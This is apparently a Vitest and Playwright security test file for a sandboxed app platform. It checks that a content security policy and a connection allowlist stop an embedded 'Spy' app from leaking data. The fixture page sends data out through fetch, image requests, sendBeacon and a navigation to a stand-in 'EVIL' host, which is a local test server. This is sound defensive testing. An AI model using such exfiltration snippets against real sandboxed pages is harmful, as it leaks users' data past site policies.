import { mkdtemp } from 'node:fs/promises';
import { createServer, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { GadgetProxy } from '@gantry/proxy';
import { type Browser, chromium, type Page } from '@playwright/test';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { registerApp } from './register-app.ts';
import { secretKey, writeFiles } from './site.ts';
import { appOf, openStoredSite } from './versions/stored-site.ts';

// An app that loads permitted files and tries to send data elsewhere, in a real browser.
const page = `<!doctype html><title>Spy</title><link rel="stylesheet" href="style.css">
  <script>
    const say = (word) => parent.postMessage(word, '*');
    addEventListener('securitypolicyviolation', (event) => say('refused ' + event.effectiveDirective));
  </script>
  <script src="/gantry/osapi.js"></script><script type="module" src="module.js"></script>
  <img src="picture.svg" onload="say('picture')"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>" onload="say('data')">
  <script>
    say('origin ' + origin);
    fetch('EVIL/fetch').catch(() => say('no fetch'));
    new Image().src = 'EVIL/image';
    navigator.sendBeacon('EVIL/beacon');
  </script>
  <script>addEventListener('message', () => { location.href = 'EVIL/navigation?everything'; });</script>`;

let browser: Browser;
let evil: Server;
let reached: string[] = [];
const servers: Server[] = [];

beforeAll(async () => {
  evil = await listen((request, response) => {
    reached.push(request.url ?? '');
    response.end('thanks');
  });
  browser = await chromium.launch({
    executablePath: process.env.GANTRY_CHROMIUM ?? '/usr/bin/chromium',
    args: ['--no-sandbox'],
  });
});
afterAll(async () => {
  await browser.close();
  for (const server of servers) server.close();
});

async function listen(listener: RequestListener): Promise<Server> {
  const server = createServer(listener);
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server;
}

function portOf(server: Server): number {
  return (server.address() as AddressInfo).port;
}

/**
 * Serves a container's page and the proxy, optionally without some of the app's headers, and mounts
 * the app from its folder, or a stored version of it.
 */
async function mount(
  appsHost: string | undefined,
  { without = [], isStored = false }: { readonly without?: readonly string[]; readonly isStored?: boolean } = {},
) {
  reached = [];
  let proxy: GadgetProxy | undefined;
  const server = await listen(async (request, response) => {
    const url = new URL(request.url ?? '', `http://${request.headers.host}`);
    const answer =
      url.pathname === '/' || proxy === undefined
        ? new Response('<script>heard = []; onmessage = (event) => heard.push(event.data)</script>')
        : await proxy.handle(new Request(url, { headers: { cookie: request.headers.cookie ?? '' } }));
    const headers = new Headers(answer.headers);
    for (const name of without) headers.delete(name);
    if (url.pathname === '/') headers.set('Content-Type', 'text/html');
    response.writeHead(answer.status, Object.fromEntries(headers)).end(Buffer.from(await answer.arrayBuffer()));
  });
  const publicUrl = `http://localhost:${portOf(server)}`;
  const site = await openStoredSite({
    publicUrl,
    ...(appsHost && { appsHost: appsHost.replace('PORT', String(portOf(server))) }),
  });
  proxy = site.proxy;
  const manifest = { name: 'Spy', page: 'index.html' };
  const files = {
    'index.html': page.replaceAll('EVIL', `http://127.0.0.1:${portOf(evil)}`),
    'module.js': "import './nested.js'; say('module');",
    'nested.js': "say('nested');",
    'style.css': 'body { color: red }',
    'picture.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
  };
  if (isStored) await site.release(appOf(manifest, files));
  else {
    const folder = await mkdtemp(join(tmpdir(), 'gantry-spy-'));
    await writeFiles(folder, files);
    const registration = { id: 'quiz', folder, manifest, consumerKey: 'k', consumerSecret: 's' };
    await registerApp(site.db, secretKey, registration);
  }
  const instance = await site.ask();
  const tab = await browser.newPage();
  await tab.goto(publicUrl);
  await tab.evaluate(({ document: source, sandbox }) => {
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', sandbox);
    frame.src = source;
    document.body.append(frame);
  }, instance);
  return { tab, document: instance.document };
}

const loaded = [
  'data',
  'module',
  'nested',
  'no fetch',
  'origin null',
  'picture',
  'refused connect-src',
  'refused img-src',
  'sdk',
];

const modes = [
  ['opaque', undefined],
  ['one sandbox origin', 'http://sandbox.localhost:PORT'],
  ['an origin per app', 'http://*.apps.localhost:PORT'],
] as const;
const places = modes.flatMap(([mode, appsHost]) =>
  [false, true].map((isStored) => [`${mode}, ${isStored ? 'a version' : 'a folder'}`, appsHost, isStored] as const),
);

test.each(places)('an app loads its own and the SDK, and tells nobody else (security rule 5; %s)', async (...place) => {
  const [, appsHost, isStored] = place;
  const { tab, document: address } = await mount(appsHost, { isStored });
  expect(/\/@[0-9a-f]{64}\//.test(address)).toBe(isStored);
  await expect.poll(() => heardBy(tab)).toEqual(loaded);

  // Its last way out: to go there itself.
  const frame = tab.frames().find((each) => each !== tab.mainFrame());
  const gone = tab.waitForEvent('framenavigated', (each) => each === frame);
  await tab.evaluate(() => window.frames[0]?.postMessage('go', '*'));
  expect((await gone).url()).toMatch(/^chrome-error:/);
  expect(reached).toEqual([]);

  await tab.goto(address); // a direct visit stays sandboxed
  await expect.poll(() => tab.evaluate(() => origin)).toBe('null');
  await tab.close();
});

test('the positive controls: without Connection-Allowlist it goes there, without CSP too it sends at once', async () => {
  const going = await mount(undefined, { without: ['connection-allowlist'] });
  await expect.poll(() => heardBy(going.tab)).toEqual(loaded);
  await going.tab.evaluate(() => window.frames[0]?.postMessage('go', '*'));
  await expect.poll(() => reached).toEqual(['/navigation?everything']);
  await going.tab.close();

  const sending = await mount(undefined, { without: ['connection-allowlist', 'content-security-policy'] });
  await expect.poll(() => reached.toSorted()).toEqual(['/beacon', '/fetch', '/image']);
  await sending.tab.close();
});

/** Loads a version of an app in two frames, between which the site takes a host out of its policy. */
async function mend(appsHost: string | undefined, documentCaching?: string) {
  reached = [];
  let proxy: GadgetProxy | undefined;
  const documents: string[] = [];
  const server = await listen(async (request, response) => {
    const url = new URL(request.url ?? '', `http://${request.headers.host}`);
    if (url.pathname === '/' || proxy === undefined) {
      return response
        .writeHead(200, { 'Content-Type': 'text/html' })
        .end('<script>heard = []; onmessage = (event) => heard.push(event.data)</script>');
    }
    const answer = await proxy.handle(new Request(url, { headers: request.headers as Record<string, string> }));
    const headers = Object.fromEntries(answer.headers);
    if (url.pathname.endsWith('index.html')) {
      documents.push(`${answer.status}`);
      if (documentCaching) headers['cache-control'] = documentCaching;
    }
    return response.writeHead(answer.status, headers).end(Buffer.from(await answer.arrayBuffer()));
  });
  const publicUrl = `http://localhost:${portOf(server)}`;
  const options = { publicUrl, ...(appsHost && { appsHost: appsHost.replace('PORT', String(portOf(server))) }) };
  const images = `http://127.0.0.1:${portOf(evil)}`;
  const wide = await openStoredSite({ ...options, mediaOrigins: [images] });
  const text = `<!doctype html><script>
    addEventListener('securitypolicyviolation', () => parent.postMessage('refused', '*'));
    new Image().src = '${images}/image?' + Math.random();
    parent.postMessage('ran', '*');
  </script>`;
  await wide.release(appOf({}, { 'index.html': text }));
  const instance = await wide.ask();
  const tab = await browser.newPage();
  await tab.goto(publicUrl);
  const show = () =>
    tab.evaluate(({ document: source, sandbox }) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', sandbox);
      frame.src = source;
      document.body.append(frame);
    }, instance);
  proxy = wide.proxy;
  await show();
  await expect.poll(() => reached.length).toBe(1);
  proxy = (await openStoredSite({ ...options, db: wide.db })).proxy; // the mended release, while the page is open
  await show();
  return { tab, documents };
}

test.each(modes)('a mended policy holds from the next frame of an open page on (%s)', async (_, appsHost) => {
  const { tab, documents } = await mend(appsHost);
  await expect.poll(() => heardBy(tab)).toEqual(['ran', 'refused']);
  expect([reached.length, documents]).toEqual([1, ['200', '200']]);
  await tab.close();
});

test('the positive control: a document that is immutable keeps its old policy', async () => {
  const { tab, documents } = await mend(undefined, 'public, max-age=31536000, immutable');
  await expect.poll(() => reached.length).toBe(2);
  expect([await heardBy(tab), documents]).toEqual([['ran'], ['200']]);
  await tab.close();
});

function heardBy(tab: Page): Promise<string[]> {
  return tab.evaluate(() => [...new Set((globalThis as unknown as { heard: string[] }).heard)].sort());
}
